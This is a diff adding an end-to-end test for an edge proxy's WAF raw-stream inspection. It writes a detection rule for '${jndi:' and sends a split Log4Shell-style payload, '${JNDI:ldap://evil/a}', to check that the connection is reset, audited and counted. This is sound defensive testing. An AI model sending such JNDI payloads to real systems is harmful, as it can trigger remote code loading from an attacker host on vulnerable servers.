@@ -239,4 +239,108 @@ c.that(any(k.startswith("edge_waf") for k in m), "/metrics has edge_waf series")
 os.remove(os.path.join(rules_dir, "broken.yaml"))
 
 c.that(e.stop() == 0, "edged exits cleanly")
-c.done(e)
+
+# --- raw payload (not HTTP): a second edged with a `tcp` service whose policy says inspect: raw --------
+# The raw rule runs in stream mode over the whole client stream; a match split across two TCP segments
+# resets the client and the upstream, and is counted and audited. Clean bytes reach an echo backend
+# (no PROXY header: the pool turns it off). The WAF services are fixed at start, hence a new edged.
+with open(os.path.join(rules_dir, "raw.tmp"), "w") as f:
+    f.write("""set: raw
+rules:
+  - id: 190100
+    message: "JNDI lookup in a raw stream (e2e)"
+    phase: raw_payload
+    operator: contains
+    pattern: "${jndi:"
+    transforms: [lowercase]
+    action: block
+    severity: critical
+""")
+os.rename(os.path.join(rules_dir, "raw.tmp"), os.path.join(rules_dir, "raw.yaml"))
+echo = be.popen(["/usr/bin/python3", "-c", """
+import socketserver
+class H(socketserver.BaseRequestHandler):
+    def handle(self):
+        while True:
+            b = self.request.recv(4096)
+            if not b:
+                return
+            self.request.sendall(b)
+socketserver.ThreadingTCPServer.allow_reuse_address = True
+socketserver.ThreadingTCPServer.daemon_threads = True
+socketserver.ThreadingTCPServer(('0.0.0.0', 7000), H).serve_forever()
+"""], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+h._cleanups.append(echo.kill)
+raw_config = f"""
+eal:
+  args: {h.yaml_list(h.eal_args(t))}
+ports:
+  - {{name: wan0, role: wan, device: "net_af_packet0,iface=dut0", addresses: [10.98.0.1/24]}}
+workers:
+  lcores: [1]
+waf:
+  rules_dir: {rules_dir}
+  audit_log: {audit_log}
+pools:
+  - name: echo
+    proxy_protocol: false
+    connect_timeout_ms: 500
+    backends:
+      - {{address: 10.98.1.11, port: 7000}}
+services:
+  - name: broker
+    vip: {VIP}
+    port: 7000
+    kind: tcp
+    pool: echo
+    waf:
+      policy: {{name: raw, inspect: raw}}
+"""
+e2 = h.Edged(dut, raw_config)
+RAW_CLIENT = f"""
+import socket, sys, time
+s = socket.create_connection(('{VIP}', 7000), timeout=5)
+s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+parts = [p.encode() for p in sys.argv[1:]]
+try:
+    got = b''
+    for p in parts:
+        s.sendall(p)
+        time.sleep(0.3)  # one TCP segment each
+    want = b''.join(parts)
+    while len(got) < len(want):
+        b = s.recv(4096)
+        if not b:
+            break
+        got += b
+    print('echo' if got == want else 'got ' + repr(got))
+except ConnectionResetError:
+    print('reset')
+"""
+
+
+def raw_exchange(*parts):
+    r = cli.run(["/usr/bin/python3", "-c", RAW_CLIENT, *parts], check=False, timeout=30)
+    return (r.stdout.strip() or r.stderr.strip()[-200:])
+
+
+got = raw_exchange("HELLO broker\n", "PUB t/1 {\"x\": 1}\n")
+c.that(got == "echo", f"raw service: a clean binary-ish stream is echoed by the backend ({got})")
+got = raw_exchange("PUB t/1 ${JN", "DI:ldap://evil/a}\n")
+c.that(got == "reset", f"raw service: a raw rule match split across two segments resets the client ({got})")
+entries = audit_lines(lambda x: x.get("service") == "broker")
+mine = [x for x in entries if x.get("service") == "broker"]
+c.that(any(x.get("rule_id") == 190100 and x.get("verdict") == "block" and x.get("raw") is True for x in mine),
+       f"raw block audited with rule id 190100 ({mine[:2]})")
+m = e2.metrics()
+c.that(m.get('edge_relay_ends_total{outcome="waf_blocked"}', 0) == 1, "counted as relay end waf_blocked")
+c.that(m.get("edge_waf_raw_blocked_total", 0) == 1, "counted as edge_waf_raw_blocked_total")
+c.that(m.get('edge_waf_service_blocked_total{service="broker"}', 0) == 1
+       and m.get('edge_waf_service_inspected_total{service="broker"}', 0) == 2,
+       "per service: 2 raw streams inspected, 1 blocked")
+c.that(m.get('edge_waf_rule_matches_total{service="broker",rule="190100"}', 0) == 1,
+       "per rule id and service: rule 190100 matched once on broker")
+got = raw_exchange("still ok\n")
+c.that(got == "echo", f"the service keeps relaying after a reset ({got})")
+c.that(e2.stop() == 0, "the raw edged exits cleanly")
+c.done(e2)
